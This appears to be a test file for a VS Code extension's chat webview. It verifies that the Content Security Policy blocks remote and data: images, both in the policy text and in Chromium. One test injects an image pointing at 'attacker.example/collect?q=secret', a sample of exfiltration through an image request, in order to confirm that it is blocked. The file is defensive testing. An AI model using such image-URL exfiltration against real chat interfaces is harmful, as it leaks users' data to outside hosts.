// Issue 11, finding 14: the chat renders an answer's images as links, so its CSP loads no image from anywhere but
// the extension itself: not https:, not data:. Checked on the policy text and in Chromium on the real page.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { chatHtml } from '../../src/vscode/webviewHtml';
import { chromiumAvailable, openChatPage, type ChatPage } from './chatWebviewPage';

const ORIGIN = 'https://file+.vscode-resource.vscode-cdn.net';
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';

function csp(html: string): Map<string, string> {
  const content = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  return new Map(
    content.split(';').map(
      (d) =>
        d
          .trim()
          .split(/\s+(.*)/s)
          .slice(0, 2) as [string, string],
    ),
  );
}

describe('the chat CSP allows no remote or inline image (finding 14)', () => {
  test('img-src is the extension itself and nothing else', () => {
    const policy = csp(chatHtml({ cspSource: ORIGIN, nonce: 'n0nce', scriptUri: `${ORIGIN}/chat.js`, styleUris: [] }));
    assert.equal(policy.get('default-src'), "'none'");
    assert.equal(policy.get('img-src'), ORIGIN);
  });

  describe('in Chromium', { skip: !chromiumAvailable() && 'no /usr/bin/chromium' }, () => {
    let p: ChatPage;
    before(async () => {
      p = await openChatPage();
    });
    after(() => p.close());

    test('an <img> with a data: or https: source is blocked by the page itself', async () => {
      const before = (await p.violations()).length;
      await p.page.evaluate(
        ([pixel]) => {
          for (const src of [pixel, 'https://attacker.example/collect?q=secret']) {
            const img = document.createElement('img');
            img.src = src;
            document.body.append(img);
          }
        },
        [PIXEL],
      );
      // Violation events are dispatched asynchronously.
      await p.page.waitForFunction((n) => window.__violations.filter((v) => v.startsWith('img-src')).length >= n + 2, before, { timeout: 10_000 });
      const seen = (await p.violations()).slice(before).filter((v) => v.startsWith('img-src'));
      assert.ok(
        seen.some((v) => v.includes('data')),
        seen.join(' | '),
      );
      assert.ok(
        seen.some((v) => v.includes('attacker.example')),
        seen.join(' | '),
      );
    });
  });
});
